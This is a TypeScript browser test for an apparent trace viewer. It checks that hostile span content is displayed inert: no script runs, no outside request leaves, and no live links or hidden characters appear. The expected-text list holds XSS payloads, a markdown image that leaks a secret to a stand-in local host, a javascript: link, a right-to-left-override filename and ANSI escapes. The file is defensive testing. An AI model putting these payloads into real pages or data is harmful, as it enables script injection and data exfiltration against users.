// The corpus of hostile content over the real engine: what an attacker's spans carry is shown as it is and does nothing.

import { readFileSync } from "node:fs";
import path from "node:path";
import { type Browser, type Page, chromium } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { chromePath } from "./browser";
import { type Real, startReal } from "./real.mjs";

const CASES = path.join(import.meta.dirname, "..", "fixtures", "corpus", "cases");
const TRACE = "76592b9de6d38238a52a3651867871e5";
/** Characters that a reader must not meet as themselves: they hide, colour or turn around what stands beside them. */
const HIDDEN = /[\u0000-\u0008\u000b-\u001f\u007f\u200b\u202e\ufeff]/;

let browser: Browser;
let real: Real;
beforeAll(async () => {
  browser = await chromium.launch({ executablePath: chromePath(), args: ["--no-sandbox", "--disable-gpu"] });
  real = await startReal(browser);
  for (const name of ["view-xss-values", "view-md-output", "view-control"]) {
    const body = JSON.parse(readFileSync(path.join(CASES, `${name}.json`), "utf8")) as {
      resourceSpans: readonly unknown[];
    };
    await real.engine.send(body.resourceSpans);
  }
});
afterAll(async () => {
  await real.stop();
  await browser.close();
});

/** Opens every step, every tab of it and every fold, and answers with all that was read meanwhile. */
async function readAll(page: Page): Promise<string[]> {
  const texts: string[] = [];
  await page.waitForSelector('[role="row"][data-step-id]');
  for (const row of await page.locator('.tree [role="row"][data-step-id]').all()) {
    await row.click();
    for (const tab of await page.locator(".inspector [role=tab]").all()) {
      await tab.click();
      for (const name of [/^Show .* more/, /^Show rendered/]) {
        // As source first: rendering takes the place of it.
        texts.push(...(await textsOn(page)));
        for (const button of await page.locator(".inspector").getByRole("button", { name }).all())
          await button.click({ timeout: 1000 }).catch(() => undefined);
      }
      texts.push(...(await textsOn(page)));
    }
  }
  for (const key of ["2", "3", "4", "5", "6"]) {
    await page.keyboard.press(key);
    await page.waitForTimeout(150);
    texts.push(...(await textsOn(page)));
  }
  return texts;
}

function textsOn(page: Page): Promise<string[]> {
  return page.evaluate(() => [
    document.body.innerText,
    ...[...document.querySelectorAll("[title],[aria-label]")].flatMap((element) => [
      element.getAttribute("title") ?? "",
      element.getAttribute("aria-label") ?? "",
    ]),
  ]);
}

describe("the corpus of hostile content", () => {
  it("runs no script, asks for nothing, offers no live link and shows every hidden character", async () => {
    const { page, close } = await real.open(TRACE, "timeline");
    const strangers: string[] = [];
    const own = new URL(page.url()).origin;
    page.on("request", (request) => {
      if (!request.url().startsWith(own) && !request.url().startsWith("data:")) strangers.push(request.url());
    });
    const texts = await readAll(page);
    expect(strangers).toEqual([]);
    expect(
      await page.evaluate(() => ({
        pwned: "__pwned" in window,
        scripts: [...document.scripts].map((script) => script.src.replace(location.origin, "")),
        frames: document.querySelectorAll("iframe, object, embed, base, meta[http-equiv], form").length,
        links: document.querySelectorAll("a[href], area[href]").length,
        images: [...document.images].filter((image) => !image.src.startsWith("data:")).length,
      })),
    ).toEqual({ pwned: false, scripts: ["/stub.js", "/webview.js"], frames: 0, links: 0, images: 0 });
    expect(texts.filter((text) => HIDDEN.test(text))).toEqual([]);
    const all = texts.join("\n");
    for (const verbatim of [
      "<script>window.__pwned=1</script>",
      '<img src=x onerror="window.__pwned=1">',
      "<svg onload=window.__pwned=1>",
      "![x](http://127.0.0.1:9/leak?d=secret)",
      "[c](javascript:window.__pwned=1)",
      "\\u202egnp.exe",
      "\\x1b[2J\\x1b[31mred",
    ])
      expect(all).toContain(verbatim);
    await close();
  });
});
